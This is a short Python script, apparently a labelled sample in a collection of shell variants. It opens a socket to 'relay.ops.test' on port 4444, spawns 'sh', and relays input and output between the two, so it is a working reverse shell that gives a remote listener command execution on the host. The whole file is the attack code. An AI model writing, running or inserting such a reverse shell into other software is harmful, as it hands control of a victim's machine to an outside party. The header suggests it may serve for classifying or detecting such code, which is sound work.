# class: shell; possible: low medium; style: relay by selectors, shell and socket as equals
import selectors
import socket
import subprocess

sock = socket.create_connection(("relay.ops.test", 4444))
shell = subprocess.Popen(["sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, bufsize=0)
sel = selectors.DefaultSelector()
sel.register(sock, selectors.EVENT_READ, ("in", shell.stdin))
sel.register(shell.stdout, selectors.EVENT_READ, ("out", sock))
done = False
while not done:
    for key, _ in sel.select(30):
        way, target = key.data
        data = sock.recv(4096) if way == "in" else shell.stdout.read(4096)
        if not data:
            done = True
        elif way == "in":
            target.write(data)
        else:
            target.sendall(data)
shell.kill()
